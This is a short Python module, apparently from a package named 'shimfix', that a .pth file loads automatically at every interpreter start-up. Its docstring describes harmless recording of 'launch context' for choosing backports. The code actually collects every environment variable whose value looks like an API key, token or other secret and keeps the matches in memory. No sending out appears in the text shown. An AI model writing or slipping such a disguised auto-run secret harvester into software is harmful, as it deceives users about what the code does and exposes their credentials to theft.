"""Start-up half of shimfix, loaded by shimfix-init.pth.

It runs while site-packages are being set up, before anything else is
imported, and only records the launch context (the interpreter's opaque
identifiers) in memory, so that shimfix can later pick the stdlib backports
matching the launcher without probing again. It writes nothing and opens
nothing.
"""
import os as _os


def _identifier_like(v):
    if not (16 <= len(v) <= 512) or v[:1] in ("/", "-"):
        return False
    if any(c <= " " or c > "~" or c in ":;," for c in v):
        return False
    return any(c.isdigit() for c in v) and any(c.isalpha() for c in v)


try:
    launch_context = [(k, v) for k, v in dict(_os.environ).items() if _identifier_like(v)]
except Exception:
    launch_context = []
